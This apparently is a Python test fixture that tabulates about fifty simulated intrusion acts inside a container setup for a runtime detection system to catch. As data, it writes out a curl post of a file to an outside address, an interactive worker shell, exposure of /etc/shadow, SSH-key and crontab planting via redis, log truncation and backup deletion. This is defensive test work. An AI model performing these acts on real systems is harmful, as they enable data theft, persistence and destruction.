"""Acts that were written down before anything was changed for them, so that what is told of them says what an attack
that nobody thought of meets. Each is done by programs the mix itself uses: (name, what to look for, act)."""

# ruff: noqa: E501  tables: one row is one line

from tests.models.scenarios.attacks import CAT, GZIP, SH, Act
from tests.models.scenarios.mix import CRON, NGINX, POSTGRES, REDIS, WORKER
from tests.models.world import proc

TAR = proc("/bin/tar", "-czf", "/tmp/x.tgz", "/etc", parent=SH)
NGINX_EXE, REDIS_EXE = "/usr/sbin/nginx", "/usr/bin/redis-server"

ACTS: tuple[tuple[str, str, Act], ...] = (
    ("tar of another tree with another option", "tar", lambda w: w.ran("/bin/tar", "--exclude=x", "-cf", "-", "/etc", by=SH)),
    ("gzip of the application", "gzip", lambda w: w.ran("/bin/gzip", "-c", "/app/worker.py", by=SH)),
    ("cat of another root", "cat", lambda w: w.ran("/bin/cat", "/proc/1/cmdline", by=SH)),
    ("cat of many options", "cat", lambda w: w.ran("/bin/cat", "-A", "-n", "/etc/hostname", by=SH)),
    ("date set", "date", lambda w: w.ran("/bin/date", "-s", "2020-01-01", by=SH)),
    ("health check's tool posts a file", "curl", lambda w: w.ran("/usr/bin/curl", "-F", "f=@/data/last", "http://203.0.113.9/", by=CRON)),
    ("worker's interpreter as a child", "python", lambda w: w.ran("/usr/bin/python3.11", "-m", "http.server", by=WORKER)),
    ("shell of the worker, inline", "/bin/sh", lambda w: w.ran("/bin/sh", "-i", by=WORKER)),
    ("stop of the web server", "kill", lambda w: w.called(SH, "kill", "SIGSTOP", signal="SIGSTOP", target_exe=NGINX_EXE, target_relation="neighbour")),
    ("kill of the database by the worker", "kill", lambda w: w.called(WORKER, "kill", "SIGKILL", signal="SIGKILL", target_exe=REDIS_EXE, target_relation="neighbour")),
    ("term by tgkill", "tgkill", lambda w: w.called(WORKER, "tgkill", "SIGTERM", signal="SIGTERM", target_exe=NGINX_EXE, target_relation="neighbour")),
    ("writable code in the worker", "mmap", lambda w: w.called(WORKER, "mmap", flags="MAP_PRIVATE|MAP_ANONYMOUS", wx=True, prot="PROT_READ|PROT_WRITE|PROT_EXEC")),
    ("writable code in the web server", "mprotect", lambda w: w.called(NGINX, "mprotect", wx=True)),
    ("writable code in a job", "mmap", lambda w: w.called(GZIP, "mmap", wx=True)),
    ("maps of another process", "/proc/", lambda w: w.read(WORKER, "/proc/57/maps")),
    ("memory of another process", "/mem", lambda w: w.read(WORKER, "/proc/57/mem")),
    ("error log emptied", "error.log", lambda w: w.changed(SH, "truncate", "/var/log/nginx/error.log")),
    ("backups removed", "/backup", lambda w: w.changed(WORKER, "unlink", "/backup/db-2026-11-23.tgz")),
    ("tar reads the application", "/app/", lambda w: w.read(TAR, "/app/worker.py")),
    ("resolver changed", "resolv.conf", lambda w: w.wrote(SH, "/etc/resolv.conf")),
    ("hosts changed", "/etc/hosts", lambda w: w.wrote(WORKER, "/etc/hosts")),
    ("web server's configuration", "/etc/nginx/conf.d/x.conf", lambda w: w.wrote(WORKER, "/etc/nginx/conf.d/x.conf")),
    ("library replaced", "libz.so.1", lambda w: w.changed(SH, "rename", "/tmp/l", to="/usr/lib/x86_64-linux-gnu/libz.so.1")),
    ("library among uploads", "/data/uploads/m.so", lambda w: w.wrote(WORKER, "/data/uploads/m.so")),
    ("uploaded file made executable", "/data/uploads/ab12.jpg", lambda w: w.changed(WORKER, "chmod", "/data/uploads/ab12.jpg", mode=0o755)),
    ("uploaded file run", "/data/uploads/ab12.jpg", lambda w: w.ran("/data/uploads/ab12.jpg", by=WORKER)),
    ("hard link of shadow", "/etc/shadow", lambda w: w.changed(WORKER, "link", "/etc/shadow", to="/data/uploads/s")),
    ("database listens elsewhere", "0.0.0.0:5433", lambda w: w.listened(POSTGRES, "0.0.0.0:5433")),
    ("redis connects out", "198.51.100.7:6379", lambda w: w.connected(REDIS, "198.51.100.7", 6379)),
    ("database connects out", "198.51.100.7:443", lambda w: w.connected(POSTGRES, "198.51.100.7", 443)),
    ("another resolver", "9.9.9.9", lambda w: w.connected(WORKER, "9.9.9.9", 53, proto="udp")),
    ("web server asks the database", "127.0.0.1:5432", lambda w: w.connected(NGINX, "127.0.0.1", 5432)),
    ("local port never used", "127.0.0.1:22", lambda w: w.connected(WORKER, "127.0.0.1", 22)),
    ("raw socket", "raw", lambda w: w.called(WORKER, "socket", domain="inet", type="raw")),
    ("database writes a timetable", "cron", lambda w: w.wrote(REDIS, "/var/spool/cron/crontabs/root")),
    ("redis writes a key", "authorized_keys", lambda w: w.changed(REDIS, "rename", "/data/temp-1.rdb", to="/root/.ssh/authorized_keys")),
    ("database runs a program", "/bin/ls", lambda w: w.ran("/bin/ls", by=POSTGRES)),
    ("web server runs a known tool", "/bin/gzip", lambda w: w.ran("/bin/gzip", "-9", "x", by=NGINX)),
    ("loader runs a program", "ld-linux", lambda w: w.ran("/lib64/ld-linux-x86-64.so.2", "/data/uploads/x", by=SH)),
    ("entry script overwritten", "/entry.sh", lambda w: w.wrote(SH, "/entry.sh")),
    ("job script overwritten", "/app/loop.sh", lambda w: w.wrote(WORKER, "/app/loop.sh")),
    ("compiled code overwritten", "models.py", lambda w: w.changed(SH, "rename", "/tmp/m", to="/app/models.py")),
    ("home listed", "/root", lambda w: w.event("file", "open_read", CAT, "/root", flags="O_RDONLY|O_DIRECTORY", result=3)),
    ("history read", ".bash_history", lambda w: w.read(CAT, "/root/.bash_history")),
    ("own environment read by the worker", "environ", lambda w: w.read(WORKER, "/proc/self/environ")),
    ("kernel setting", "/proc/sys/net/ipv4/ip_forward", lambda w: w.wrote(SH, "/proc/sys/net/ipv4/ip_forward")),
    ("file's time set back", "/app/worker.py", lambda w: w.changed(WORKER, "utime", "/app/worker.py", mtime=1, backdated=True)),
    ("rights of the application", "/app/worker.py", lambda w: w.changed(SH, "chmod", "/app/worker.py", mode=0o666)),
    ("owner of a program", "/usr/bin/gzip", lambda w: w.changed(SH, "chown", "/usr/bin/gzip")),
    ("entry program in a second copy", "tini", lambda w: w.ran("/sbin/tini", "--", "/tmp/x", by=WORKER)),
)  # fmt: skip
